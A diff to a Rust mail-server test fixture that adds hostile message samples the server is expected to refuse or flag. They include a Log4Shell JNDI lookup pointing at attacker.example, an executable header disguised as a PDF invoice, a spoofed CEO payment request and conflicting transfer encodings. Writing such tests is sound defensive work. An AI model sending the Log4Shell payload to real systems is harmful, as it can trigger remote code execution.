@@ -23,6 +23,8 @@ pub(super) enum Transfer {
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub(super) enum Expected {
     Delivered,
+    /// Delivered, and the field of this beginning is in it; lower case.
+    DeliveredWith(&'static str),
     /// Delivered, and the field of this beginning is not in it any more.
     DeliveredWithout(&'static str),
     /// For good.
@@ -66,7 +68,24 @@ pub(super) fn samples(hostname: &str, from: &str, to: &str) -> Vec<Sample> {
                 )
                 .into_bytes(),
             ),
-            Expected::DeliveredWithout("authentication-results:"),
+            Expected::DeliveredWithout("authentication-results: gate.example.org; dmarc=pass"),
+        ),
+        sample(
+            "urgent, and nobody vouches for the sender",
+            data("URGENT", "\r\nTransfer this.\r\n"),
+            Expected::DeliveredWith("subject: [unconfirmed]"),
+        ),
+        sample(
+            "two authors, of whom readers see one",
+            Transfer::Data(format!("From: CEO <ceo@example.com>\r\n{}\r\nPay!\r\n.\r\n", header("two-authors")).into_bytes()),
+            Expected::Refused,
+        ),
+        sample("a program that says it is an invoice", data("program", PROGRAM), Expected::Refused),
+        sample("a part that programs decode in two ways", data("two-readings", TWO_READINGS), Expected::Refused),
+        sample(
+            "an attack on whoever logs it (Log4Shell)",
+            data("log4shell", "X-Api-Version: ${jndi:ldap://attacker.example/a}\r\n\r\nHello.\r\n"),
+            Expected::Refused,
         ),
         sample("as many parts as a bomb has", data("parts", &multipart(PARTS + 10)), Expected::Refused),
         sample(
@@ -83,6 +102,15 @@ pub(super) fn samples(hostname: &str, from: &str, to: &str) -> Vec<Sample> {
         Sample { parameters: " SIZE=2000000", ..sample("says beforehand that it is too big", data("oversize", "\r\n"), Expected::Refused) },
     ]
 }
+
+/// The beginning of a Windows program.
+const PROGRAM: &str = "Content-Type: application/pdf; name=\"invoice.pdf\"\r\nContent-Transfer-Encoding: base64\r\n\r\n\
+    TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\r\n\
+    gAAAAA4fug4AtAnNIbgBTM0hVGhpcyBwcm9ncmFtIGNhbm5vdCBiZSBydW4gaW4gRE9TIG1vZGUu\r\n";
+
+/// Readers that take the first encoding see letters, those that take the last one a page.
+const TWO_READINGS: &str = "Content-Type: text/html\r\nContent-Transfer-Encoding: 7bit\r\nContent-Transfer-Encoding: base64\r\n\r\n\
+    PGgxPkhlbGxvPC9oMT4=\r\n";
 
 fn multipart(parts: usize) -> String {
     let mut text = String::from("Content-Type: multipart/mixed; boundary=b\r\n\r\n");
